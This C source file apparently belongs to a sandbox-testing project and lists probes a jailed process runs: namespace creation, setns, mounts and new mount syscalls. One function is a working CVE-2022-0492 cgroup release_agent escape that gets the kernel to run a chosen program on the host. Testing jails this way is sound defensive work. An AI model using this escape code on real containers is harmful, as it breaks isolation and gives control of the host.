/*
 * Copyright: (c) 2026, cellblock.jails contributors
 * GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * New namespaces and mounts: the way to most of the kernel's code.
 */
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x80
#endif

static const int kinds[] = {
    CLONE_NEWNS, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWNET, CLONE_NEWPID, CLONE_NEWCGROUP, CLONE_NEWUSER, CLONE_NEWTIME};
#define KINDS (sizeof kinds / sizeof *kinds)

static int nothing(void *unused)
{
    (void)unused;
    return 0;
}

/* In a child each, or one would be the ground for the next. */
static long in_child(long (*attempt)(int), int argument)
{
    int status;
    pid_t child = fork();

    if (child < 0)
        return -1;
    if (!child)
        _exit(attempt(argument) < 0 ? errno : 0);
    waitpid(child, &status, 0);
    if (!WIFEXITED(status))
        return fail(EPERM);
    return WEXITSTATUS(status) ? fail(WEXITSTATUS(status)) : 0;
}

static long by_unshare(int kind)
{
    return unshare(kind);
}

static long by_clone(int kind)
{
    static char stack[65536] __attribute__((aligned(16)));
    long child = clone(nothing, stack + sizeof stack, kind | SIGCHLD, NULL);

    return child > 0 ? waitpid(child, NULL, 0) : child;
}

/* Through when one kind can be made. */
static long any_unshare(char **word)
{
    (void)word;
    for (unsigned i = 0; i < KINDS; i++)
        if (!in_child(by_unshare, kinds[i]))
            return 0;
    return -1;
}

static long any_clone(char **word)
{
    (void)word;
    for (unsigned i = 0; i < KINDS; i++)
        if (kinds[i] != CLONE_NEWTIME && !in_child(by_clone, kinds[i])) /* its number is a signal's here */
            return 0;
    return -1;
}

static long any_clone3(char **word)
{
    struct {
        unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } how = {.flags = CLONE_NEWNET, .exit_signal = SIGCHLD};
    (void)word;
    long child = syscall(SYS_clone3, &how, sizeof how);
    if (!child)
        _exit(0);
    return child > 0 ? waitpid(child, NULL, 0) : child;
}

/* Into the namespace of this file. */
static long enter_namespace(char **word)
{
    int file = open(word[0], O_RDONLY);
    return file < 0 ? file : setns(file, 0);
}

static long mount_type(char **word)
{
    if (mkdir(word[1], 0700) < 0 && errno != EEXIST)
        return -1;
    return mount("none", word[1], word[0], 0, word[2]);
}

static long mount_bind(char **word)
{
    return mount(word[0], word[1], NULL, MS_BIND, NULL);
}

static long mount_writable(char **word)
{
    return mount(NULL, word[0], NULL, MS_REMOUNT | MS_BIND, NULL);
}

static long unmount(char **word)
{
    return umount2(word[0], MNT_DETACH);
}

static long open_filesystem(char **word)
{
    return syscall(SYS_fsopen, word[0], 0);
}

static long clone_tree(char **word)
{
    (void)word;
    return syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
}

static long put(const char *directory, const char *name, const char *text)
{
    char path[4096];

    snprintf(path, sizeof path, "%s/%s", directory, name);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    long done = file < 0 ? file : write(file, text, strlen(text));
    if (file >= 0)
        close(file);
    return done;
}

/* CVE-2022-0492: a program that the kernel starts on the host when a control group is empty. The hierarchy is a new one,
 * named word[0]; word[1] is a directory to mount it on, word[2] the host's path of the program. */
static long release_agent(char **word)
{
    char empty[4096], options[256];

    snprintf(options, sizeof options, "none,name=%s", word[0]);
    snprintf(empty, sizeof empty, "%s/empty", word[1]);
    if (mkdir(word[1], 0700) < 0 && errno != EEXIST)
        return -1;
    if (mount("none", word[1], "cgroup", 0, options) < 0 || put(word[1], "release_agent", word[2]) < 0 ||
        mkdir(empty, 0700) < 0 || put(empty, "notify_on_release", "1") < 0)
        return -1;
    pid_t child = fork();
    if (!child)
        _exit(put(empty, "cgroup.procs", "0") < 0);
    waitpid(child, NULL, 0);
    usleep(300000);
    rmdir(empty);
    return umount2(word[1], 0);
}

const struct attack namespaces[] = {
    {"unshare", any_unshare},
    {"clone", any_clone},
    {"clone3", any_clone3},
    {"setns", enter_namespace},
    {"mount", mount_type},
    {"bind", mount_bind},
    {"remount", mount_writable},
    {"unmount", unmount},
    {"fsopen", open_filesystem},
    {"open_tree", clone_tree},
    {"release_agent", release_agent},
    {NULL, NULL},
};
